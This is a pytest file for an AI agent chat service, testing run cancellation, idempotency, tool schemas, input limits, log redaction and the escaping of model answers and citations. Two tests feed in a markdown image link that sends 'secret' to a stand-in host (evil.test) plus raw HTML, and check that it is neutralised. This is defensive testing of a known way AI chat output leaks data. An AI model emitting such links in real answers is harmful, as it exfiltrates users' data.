"""Faults that people found who had read neither code nor tests; each is a test here."""

from __future__ import annotations

import json
import uuid
from pathlib import Path
from typing import Any

import pytest

from askwell.web.chat_events import AnswerText, end_of_answer
from tests.agent.talking import Answer, Call, Talk, frames, talking, words

pytestmark = pytest.mark.asyncio(loop_scope="module")

ASK = Answer(calls=[Call("ask_data", {"question": "how many customers are there?"})])


async def test_a_run_of_agui_is_found_and_stopped_by_its_run_id(talk: Talk) -> None:
    talk.script({"conversation": [Answer(text="One.", hang=True), Answer(text="Two.")]})
    body = {"threadId": "t", "runId": "mine", "messages": [{"role": "user", "content": "Hello"}]}
    async with talk.service.session.post(f"{talk.service.url}/v1/agent", json=body) as answer:
        await talk.server.arrived("conversation")
        status, run = await talk.call("GET", "/v1/runs/mine")
        assert (status, run["status"]) == (200, "running")
        status, stopped = await talk.call("PATCH", "/v1/runs/mine", json={"status": "stopped"})
        assert (status, stopped["run_id"]) == (200, run["run_id"])
        assert frames(await answer.text())[-1]["outcome"] == {"type": "cancelled"}
    assert (await talk.call("GET", "/v1/runs/mine?project_id=other"))[0] == 404
    assert words(await talk.agui("Again", "t")) == "Two."


async def test_the_same_key_is_the_same_message_without_a_thread_too(talk: Talk) -> None:
    talk.script({"conversation": [Answer(text="Hello.")]})
    key = {"Idempotency-Key": uuid.uuid4().hex}
    sent = [await talk.call("POST", "/v1/chats", json={"message": "hello"}, headers=key) for _ in range(2)]
    assert sent[0] == sent[1]
    assert sent[0][0] == 202


@pytest.mark.parametrize(
    "parameters",
    [{"type": "nonsense"}, {"type": "object", "properties": 5}, {"type": "object", "required": "a"}, {"type": "array"}],
)
async def test_a_clients_tool_needs_a_schema(talk: Talk, parameters: dict[str, Any]) -> None:
    talk.script({"conversation": [Answer(text="Hello.")]})
    tool = {"name": "paint", "description": "", "parameters": parameters}
    body = {"threadId": "t", "runId": "r", "messages": [{"role": "user", "content": "Hi"}], "tools": [tool]}
    status, answer = await talk.call("POST", "/v1/agent", json=body)
    assert status == 422, answer
    assert "paint" in answer["message"]


async def test_what_a_model_tells_again_is_told_once_and_the_rest_goes_on(talk: Talk) -> None:
    said = Answer(text="There are 3 customers. There are 77 of them sick. All are kind.")
    talk.script({"conversation": [ASK, said]})
    run = await talk.say("How are they?")
    assert run["message"] == (
        "There are 3 customers. All are kind.\n\n(Left out here: what names a figure that stands in no result.)"
    )


async def test_nothing_in_an_answer_fetches_anything(talk: Talk) -> None:
    said = Answer(text="Look: ![x](http://evil.test/?q=secret) and <img src=x> and <b>this</b>.")
    talk.script({"conversation": [said]})
    run = await talk.say("Hello")
    assert run["message"] == "Look: !\\[x](http://evil.test/?q=secret) and &lt;img src=x> and <b>this</b>."


async def test_a_thread_outlives_its_agent(talk: Talk) -> None:
    talk.script({"conversation": [Answer(text="Hello.")]})
    await talk.call("PUT", "/v1/agents/tmp", json={"name": "Tmp"})
    first = await talk.say("Hello", agent_id="tmp")
    await talk.call("DELETE", "/v1/agents/tmp")
    assert (await talk.say("Again", thread_id=first["thread_id"]))["status"] == "finished"


async def test_figures_of_a_chart_may_be_told(talk: Talk) -> None:
    fields = {"x": {"field": "country", "type": "nominal"}, "y": {"field": "n", "type": "quantitative"}}
    drawn = {"chart_type": "bar", "reasoning": "Bars.", "chart_schema": {"mark": "bar", "encoding": fields}}
    sql = "SELECT country, 1000 * COUNT(*) + COUNT(*) AS n FROM customers GROUP BY country"
    chart = Answer(calls=[Call("make_chart", {"query": "customers per country", "sql": sql, "chart_type": "bar"})])
    script = {"conversation": [chart, Answer(text="Italy leads with 2002.")], "chart_generation": [Answer(json=drawn)]}
    talk.script(script)
    run = await talk.say("Draw the customers per country")
    assert run["message"] == "Italy leads with 2002."


async def test_what_an_assistant_answers_for_somebody_teaches_nothing(tmp_path: Path) -> None:
    asked = Answer(calls=[Call("ask_data", {"question": "how many orders are open?"})])
    script = {"conversation": [asked, Answer(text="Done.")]}
    async with talking(tmp_path, script, apply_lessons=True) as talk:
        run = await talk.say("How many orders are open?")
        interrupt = run["interrupts"][0]
        body = {"interrupt_id": interrupt["id"], "payload": "1"}
        await talk.call("POST", f"/v1/runs/{run['run_id']}/input", json=body)
        await talk.settled(run["run_id"])
        _, lessons = await talk.call("GET", "/v1/lessons")
        assert lessons["lessons"] == [], json.dumps(lessons)


async def test_an_answer_that_is_too_long_is_refused_and_the_run_waits_on(talk: Talk) -> None:
    asked = Answer(calls=[Call("ask_data", {"question": "how many orders are open?"})])
    talk.script({"conversation": [asked, Answer(text="Done.")]})
    run = await talk.say("How many orders are open?")
    body = {"interrupt_id": run["interrupts"][0]["id"], "payload": "x" * 50_000}
    assert (await talk.call("POST", f"/v1/runs/{run['run_id']}/input", json=body))[0] == 422
    assert (await talk.settled(run["run_id"]))["status"] == "awaiting_input"


async def test_what_a_model_calls_does_not_stand_in_the_log(talk: Talk, caplog: pytest.LogCaptureFixture) -> None:
    calls = Answer(calls=[Call("send_mail_to_ann", {"to": "ann"}), Call("run_sql", {"sql": "SELECT ann"})])
    talk.script({"conversation": [calls, Answer(text="No.")]})
    assert (await talk.say("Hello"))["status"] == "finished"
    assert "ann" not in caplog.text.replace("cannot", "")


async def test_sources_are_text_whatever_documents_say() -> None:
    cited = {"n": 1, "title": "![t](http://evil.test/x) <b>", "locator": "", "quote": "`code` </details>"}
    end = end_of_answer(AnswerText(message="Yes. [1]", citations=[cited]))
    assert "![" not in end
    assert "<b>" not in end.replace("\\<b\\>", "")
    assert "\\`code\\`" in end
